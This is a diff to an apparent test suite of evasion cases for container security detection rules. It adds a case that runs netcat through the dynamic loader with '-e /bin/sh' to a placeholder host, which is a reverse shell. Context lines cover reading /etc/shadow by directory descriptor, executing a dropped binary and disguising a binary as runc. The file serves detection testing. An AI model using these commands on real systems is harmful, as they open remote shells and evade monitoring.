@@ -85,6 +85,7 @@ class Evasion:
 
 
 SYMLINKED = "ln -s /etc /tmp/e; "
+LOADER = "/lib64/ld-linux-x86-64.so.2"  # runs /opt/dyn/nc, a dynamic program of the image
 EVASIONS = [
     # paths that are not the literal string: the rule sees the file the kernel opened
     Evasion("dirfd", SENSITIVE, evade("dirfd", "/etc", "shadow"), "fd.name", "/etc/shadow",
@@ -149,6 +150,9 @@ EVASIONS = [
     Evasion("o-tmpfile-exec", "Drop and execute new binary in container",
             evade("tmpfile-exec", "/tmp", "/bin/busybox"), "proc.exepath", "/tmp/#*",
             evade("fd-exec", "/bin/busybox"), exec_asked("/proc/self/fd/*")),
+    Evasion("through-the-dynamic-loader", "Netcat remote code execution in container",
+            sh(f"{LOADER} /opt/dyn/nc -e /bin/sh {NOWHERE} 4445"), "proc.cmdline", "nc *",
+            sh(f"{LOADER} /opt/dyn/nc -w 1 {NOWHERE} 4445"), exec_asked(LOADER)),
     Evasion("binary-named-runc", "Namespace change in container",
             sh("/bin/cp /usr/bin/cauditd_probe /tmp/runc && /tmp/runc unshare", options=PRIV),
             "proc.name", "runc", Scenario(("/bin/true",), PRIV), runtime_mount),
